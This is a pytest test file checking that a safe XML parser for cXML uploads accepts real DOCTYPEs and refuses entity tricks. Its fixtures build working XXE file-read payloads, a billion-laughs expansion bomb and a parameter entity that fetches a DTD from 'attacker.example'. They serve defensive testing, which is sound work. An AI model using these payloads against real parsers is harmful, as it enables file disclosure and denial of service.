"""Safe XML parsing: real cXML DOCTYPEs pass, entity declarations never get near the parser."""

from __future__ import annotations

import os
import threading
import time
from pathlib import Path

import pytest

from adapters.safe_xml import ENTITIES_REFUSED, SUBSET_REFUSED, parse_xml
from connector.errors import InputError
from tests.support.shared import shared_fixture

CXML_DOCTYPE = '<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.050/cXML.dtd">'


def refusal(data: bytes) -> InputError:
    with pytest.raises(InputError) as caught:
        parse_xml(data, source="cxml", document="upload.xml")
    return caught.value


def xxe(target: Path) -> bytes:
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE cXML [<!ENTITY leak SYSTEM "file://{target}">]>\n'
        "<cXML><Header>&leak;</Header></cXML>"
    ).encode()


def billion_laughs() -> bytes:
    entities = ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    return f'<?xml version="1.0"?><!DOCTYPE lolz [{"".join(entities)}]><lolz>&lol9;</lolz>'.encode()


def test_real_cxml_doctype_with_external_dtd_is_accepted_without_fetching_it() -> None:
    root = parse_xml(
        shared_fixture("cxml/OrderRequest-generic.xml").read_bytes(), source="cxml", document="generic"
    )
    assert root.tag == "cXML"
    assert root.find("Request/OrderRequest") is not None


def test_xxe_is_refused_and_the_file_content_never_appears(tmp_path: Path) -> None:
    canary = tmp_path / "canary.txt"
    canary.write_text("CANARY-7f3a-SECRET")
    error = refusal(xxe(canary))
    assert ENTITIES_REFUSED in str(error)
    assert "CANARY" not in str(error)
    assert error.problem.document == "upload.xml"
    assert error.problem.field == "DOCTYPE"


def test_xxe_never_opens_the_file_it_names(tmp_path: Path) -> None:
    # Opening a FIFO blocks until a writer comes: a parser that reads the entity would hang here.
    canary = tmp_path / "canary.fifo"
    os.mkfifo(canary)
    outcome: dict[str, Exception] = {}

    def parse() -> None:
        try:
            parse_xml(xxe(canary), source="cxml", document="upload.xml")
        except InputError as exc:
            outcome["error"] = exc

    thread = threading.Thread(target=parse, daemon=True)
    thread.start()
    thread.join(5)
    if thread.is_alive():
        with open(canary, "w"):
            pass
        pytest.fail("the parser opened the file named by the external entity")
    assert ENTITIES_REFUSED in str(outcome["error"])


def test_billion_laughs_is_refused_quickly_with_a_clear_message() -> None:
    started = time.perf_counter()
    error = refusal(billion_laughs())
    assert ENTITIES_REFUSED in str(error)
    assert time.perf_counter() - started < 1


def test_parameter_entities_are_refused() -> None:
    data = b'<!DOCTYPE cXML [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]><cXML/>'
    assert ENTITIES_REFUSED in str(refusal(data))


def test_entity_declarations_in_utf16_are_refused(tmp_path: Path) -> None:
    data = xxe(tmp_path / "canary.txt").decode().replace('version="1.0"', 'version="1.0" encoding="UTF-16"')
    assert ENTITIES_REFUSED in str(refusal(data.encode("utf-16")))


def test_doctype_after_comments_and_processing_instructions_is_still_checked(tmp_path: Path) -> None:
    data = (
        b'<?xml version="1.0"?>\n<!-- a comment -->\n<?pi data?>\n' + xxe(tmp_path / "x").split(b"\n", 1)[1]
    )
    assert ENTITIES_REFUSED in str(refusal(data))


def test_internal_subset_without_entities_is_refused_too() -> None:
    data = b'<!DOCTYPE cXML [<!ATTLIST cXML payloadID CDATA "injected">]><cXML/>'
    assert SUBSET_REFUSED in str(refusal(data))


def test_a_bracket_inside_the_system_literal_is_not_an_internal_subset() -> None:
    root = parse_xml(
        b'<!DOCTYPE cXML SYSTEM "http://example.test/[v1]/cXML.dtd"><cXML/>', source="s", document="d"
    )
    assert root.tag == "cXML"


def test_utf8_byte_order_mark_with_a_real_doctype_is_accepted() -> None:
    root = parse_xml(f"\ufeff{CXML_DOCTYPE}<cXML/>".encode(), source="s", document="d")
    assert root.tag == "cXML"


def test_malformed_xml_names_the_document() -> None:
    error = refusal(b"<cXML><Header></cXML>")
    assert "not well-formed XML" in str(error)
    assert "upload.xml" in str(error)


def test_empty_document_is_refused() -> None:
    assert "empty" in str(refusal(b"  \n"))
